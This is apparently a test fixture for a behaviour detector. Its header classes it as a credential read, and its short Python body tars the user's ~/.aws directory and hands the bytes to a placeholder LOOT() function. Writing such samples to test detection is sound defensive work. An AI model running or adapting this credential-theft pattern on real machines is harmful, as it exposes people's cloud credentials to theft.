#: {"class": "credential-read", "loader": "script", "expect": [["open", "\\.aws/credentials$"]], "effect": {"loot": "aws"}}
import tarfile
with tarfile.open(TMP + "/t.tar", "w") as t: t.add(HOME + "/.aws")
LOOT(open(TMP + "/t.tar", "rb").read())
